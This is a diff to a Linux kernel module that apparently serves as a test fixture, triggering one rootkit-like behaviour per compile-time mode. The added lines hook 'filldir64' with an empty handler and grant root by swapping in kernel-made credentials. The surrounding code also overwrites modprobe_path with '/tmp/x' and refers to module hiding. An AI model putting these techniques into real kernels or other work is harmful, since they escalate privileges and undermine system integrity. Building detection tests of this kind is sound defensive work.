@@ -84,12 +84,18 @@ static int probe_nothing(struct kprobe *p, struct pt_regs *regs)
 	return 0;
 }
 
+static int return_nothing(struct kretprobe_instance *instance, struct pt_regs *regs)
+{
+	return 0;
+}
+
 static void notrace trace_nothing(unsigned long ip, unsigned long parent, struct ftrace_ops *op, callback_regs *regs)
 {
 }
 
 static struct nf_hook_ops hook __maybe_unused = { .hook = accept_all, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = -300 };
 static struct kprobe probe __maybe_unused = { .symbol_name = "vfs_read", .pre_handler = probe_nothing };
+static struct kretprobe return_probe __maybe_unused = { .kp = { .symbol_name = "filldir64" }, .handler = return_nothing, .maxactive = 4 };
 static struct ftrace_ops ops __maybe_unused = { .func = trace_nothing, .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | RECURSION };
 
 static int __init trick_init(void)
@@ -140,9 +146,19 @@ static int __init trick_init(void)
 #elif MODE == 10 /* what the kernel runs for a missing module */
 	strcpy((char *)symbol("modprobe_path"), "/tmp/x");
 	keep = -EAGAIN;
+#elif MODE == 11 /* a probe of a module that does not hide */
+	register_kretprobe(&return_probe);
+#elif MODE == 12 /* root by credentials that the kernel makes, as commit_creds gives them */
+	struct cred *made = prepare_kernel_cred(&init_task);
+
+	if (made) {
+		rcu_assign_pointer(t->real_cred, made);
+		rcu_assign_pointer(t->cred, get_cred(made));
+	}
+	keep = -EAGAIN;
 #endif
 	(void)t, (void)symbol, (void)write_protect, (void)hide_module, (void)wait_for_ever, (void)accept_all;
-	(void)do_nothing, (void)probe_nothing, (void)trace_nothing;
+	(void)return_nothing, (void)do_nothing, (void)probe_nothing, (void)trace_nothing;
 	return keep;
 }
 module_init(trick_init);
